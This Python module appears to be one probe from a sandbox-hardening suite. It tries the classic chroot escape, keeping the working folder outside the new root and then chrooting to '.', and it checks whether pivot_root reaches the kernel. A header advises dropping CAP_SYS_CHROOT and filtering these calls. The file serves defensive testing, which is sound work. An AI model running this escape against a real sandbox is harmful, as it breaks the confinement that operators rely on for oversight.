# title: Leave through chroot
# tries: Changes its root to a folder inside while its working folder stays outside, then makes that folder its root; tries pivot_root too, with folders that do not exist.
# impact: Escape
# proof: returned
# host: run
# advice: Drop CAP_SYS_CHROOT, refuse chroot and pivot_root with a seccomp filter, and give the sandbox a mount namespace, since a chroot is no boundary.


def call(number, *arguments):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in (number, *arguments)))
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def reach(attempts):
    """Names the calls that the kernel answered itself: a filter says EPERM or ENOSYS before it looks at arguments."""
    import errno

    reached, refusal = [], None
    for name, number, *arguments in attempts:
        try:
            call(number, *arguments)
            reached.append(name)
        except OSError as error:
            refusal = error
            if error.errno not in (errno.EPERM, errno.ENOSYS):
                reached.append(name)
    if not reached:
        raise refusal
    return "reached the kernel: " + ", ".join(reached)


def attempt(host):
    import os
    import tempfile

    chroot, pivot_root = {"x86_64": (161, 155), "aarch64": (51, 41)}[os.uname().machine]
    folder = tempfile.mkdtemp()
    os.chdir("/")  # chroot leaves the working folder where it is
    try:
        call(chroot, folder.encode())
        call(chroot, b".")
        return "left a chroot by a working folder outside of it"
    except OSError:
        return reach([("pivot_root", pivot_root, b"/no-such-folder", b"/no-such-folder")])
    finally:
        os.rmdir(folder)
